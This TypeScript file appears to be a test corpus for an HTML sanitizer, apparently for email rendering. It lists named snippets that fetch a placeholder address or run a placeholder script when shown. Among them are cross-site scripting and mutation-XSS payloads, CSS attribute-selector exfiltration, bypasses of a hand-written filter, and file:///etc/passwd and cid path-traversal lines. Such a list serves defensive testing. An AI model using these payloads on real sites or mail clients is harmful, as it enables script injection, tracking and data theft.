/**
 * HTML that loads something, or runs something, when it is merely shown: name → body. `{C}` is an address nobody may ask for, `{S}` a
 * script that would be heard of.
 */
export const loading: Readonly<Record<string, string>> = {
  // Media
  img: '<img src="{C}">',
  srcset: '<img srcset="{C} 1x, {C}2 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  'picture source': '<picture><source srcset="{C}"><img alt="x"></picture>',
  'input image': '<input type="image" src="{C}">',
  'video src': '<video src="{C}" autoplay preload="auto"></video>',
  'video poster': '<video poster="{C}"></video>',
  audio: '<audio src="{C}" autoplay></audio>',
  track: '<video src="data:video/mp4,x"><track default src="{C}"></video>',
  'body background': '<body background="{C}">x</body>',
  'table background': '<table background="{C}"><tr><td background="{C}2">x</td></tr></table>',
  attributionsrc: '<img attributionsrc="{C}" src="{C}2">',
  // CSS
  'css background': '<p style="background:url({C})">x</p>',
  'css import url': '<style>@import url({C});</style>',
  'css import string': '<style>@import "{C}";</style>',
  'css var': '<p style="--a:url({C});background:var(--a)">x</p>',
  'css content': '<style>p::before{content:url({C})}</style><p>x</p>',
  'css list': '<ul style="list-style-image:url({C})"><li>x</li></ul>',
  'css cursor': '<style>html{cursor:url({C}),auto}</style><p>x</p>',
  'css font': '<style>@font-face{font-family:f;src:url({C})}p{font-family:f}</style><p>x</p>',
  'css image-set': '<p style="background:image-set(\'{C}\' 1x)">x</p>',
  'css mask': '<p style="mask-image:url({C});width:9px;height:9px">x</p>',
  'css shape': '<p style="float:left;width:9px;height:9px;shape-outside:url({C})">x</p>',
  'css filter': '<p style="filter:url({C}#f)">x</p>',
  'css escape': '<p style="background:\\75 rl({C})">x</p>',
  'css comment': '<style>@im/**/port "{C}";p{background:u/**/rl({C})}</style><p>x</p>',
  'css exfiltration': '<style>input[value^="a"]{background:url({C})}</style><input value="abc">',
  'css attribute selector': '<style>[title^="a"]{background:url({C})}</style><p title="abc">x</p>',
  // Links in the head
  stylesheet: '<link rel="stylesheet" href="{C}">',
  preload: '<link rel="preload" as="image" href="{C}">',
  prefetch: '<link rel="prefetch" href="{C}">',
  modulepreload: '<link rel="modulepreload" href="{C}">',
  prerender: '<link rel="prerender" href="{C}">',
  preconnect: '<link rel="preconnect" href="{C}">',
  'dns-prefetch': '<link rel="dns-prefetch" href="{C}">',
  icon: '<link rel="icon" href="{C}">',
  manifest: '<link rel="manifest" href="{C}">',
  'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["{C}"]}]}</script>',
  // Frames
  'meta refresh': '<meta http-equiv="refresh" content="0;url={C}">',
  'base with relative img': '<base href="{C}/"><img src="x.png">',
  iframe: '<iframe src="{C}"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="&lt;img src={C}&gt;&lt;script&gt;{S}&lt;/script&gt;"></iframe>',
  'iframe data': '<iframe src="data:text/html,<img src={C}><script>{S}</script>"></iframe>',
  'iframe javascript': '<iframe src="javascript:{S}"></iframe>',
  frameset: '<frameset><frame src="{C}"></frameset>',
  object: '<object data="{C}"></object>',
  embed: '<embed src="{C}">',
  fencedframe: '<fencedframe src="{C}"></fencedframe>',
  portal: '<portal src="{C}"></portal>',
  // SVG and MathML
  'svg image': '<svg><image href="{C}" width="9" height="9"/></svg>',
  'svg feImage':
    '<svg><filter id="f"><feImage href="{C}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  'svg use': '<svg><use href="{C}#a"/></svg>',
  'svg animate href':
    '<svg><image width="9" height="9"><animate attributeName="href" values="{C}"/></image></svg>',
  'svg set fill': '<svg><rect width="9" height="9"><set attributeName="fill" to="url({C}#a)"/></rect></svg>',
  'svg style import': '<svg><style>@import "{C}";</style></svg>',
  'svg fill url': '<svg><rect width="9" height="9" fill="url({C}#a)"/></svg>',
  'svg script': '<svg><script>{S}</script></svg>',
  'svg script href': '<svg><script href="{C}"/></svg>',
  'svg onload': '<svg onload="{S}"></svg>',
  'svg foreignObject': '<svg><foreignObject><img src="{C}"></foreignObject></svg>',
  'math href': '<math href="javascript:{S}"><mi>x</mi></math>',
  // Script
  'script src': '<script src="{C}"></script>',
  'script inline': '<script>{S}</script>',
  onerror: '<img src="x:" onerror="{S}">',
  'import map':
    '<script type="importmap">{"imports":{"a":"{C}"}}</script><script type="module">import "a"</script>',
  'onfocus autofocus': '<input autofocus onfocus="{S}">',
  'details ontoggle': '<details open ontoggle="{S}">x</details>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x: onerror={S}>"></noscript>',
  'math mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={S}&gt;">',
  'template shadow': '<div><template shadowrootmode="open"><img src="{C}"></template></div>',
  // Other
  'form autofocus': '<form action="{C}"><input autofocus><button>x</button></form>',
  'xml stylesheet': '<?xml-stylesheet href="{C}" type="text/css"?><p>x</p>',
  'second looser policy':
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="{C}">',
  'policy report':
    '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri {C}"><img src="{C}2">',
  // What got past a hand-written filter elsewhere
  'animate style':
    '<svg><rect width="9" height="9"><animate attributeName="style" values="fill:url({C}#a)"/></rect></svg>',
  'animate by': '<svg><image width="9" height="9"><animate attributeName="href" by="{C}"/></image></svg>',
  'unclosed url': '<p style="background:url({C}">x</p>',
  'background in data':
    '<table background="data:image/png,x);background:url({C}"><tr><td>x</td></tr></table>',
  'fixed important':
    '<style>div{position:fixed!important;inset:0;z-index:2147483647;background:url({C})}</style><div>x</div>',
  'root escape': '<style>:root{background:url({C})}:host{background:url({C})}</style><p>x</p>',
  cdata: '<![CDATA[<img src="{C}">]]><svg><![CDATA[</svg><img src="{C}">]]></svg>',
  'conditional comment':
    '<!--[if gte mso 9]><img src="{C}"><![endif]--><![if !mso]><img src="{C}"><![endif]>',
  'xhtml data href':
    '<a href="data:application/xhtml+xml,<script xmlns=\'http://www.w3.org/1999/xhtml\'>{S}</script>">x</a><img src="{C}">',
  'nip.io host': '<img src="http://127.0.0.1.nip.io/{N}"><img src="{C}">',
  'carrier-grade address': '<img src="http://100.64.0.1/{N}"><img src="{C}">',
  'file and share':
    '<img src="file:///etc/passwd"><img src="\\\\server.example.org\\share\\{N}"><img src="{C}">',
  'protocol relative': '<img src="//loads.example.org/{N}">',
  // cid tricks
  'cid in css': '<p style="background:url(cid:a@example.org)">x</p><img src="{C}">',
  'cid frame': '<iframe src="cid:a@example.org"></iframe><img src="{C}">',
  'cid climbs': '<img src="cid:../../../../etc/passwd"><img src="cid/..%2f..%2fx"><img src="{C}">',
  'cid names another host':
    '<img src="cid:https://loads.example.org/{N}"><img src="CID://loads.example.org/{N}">',
}
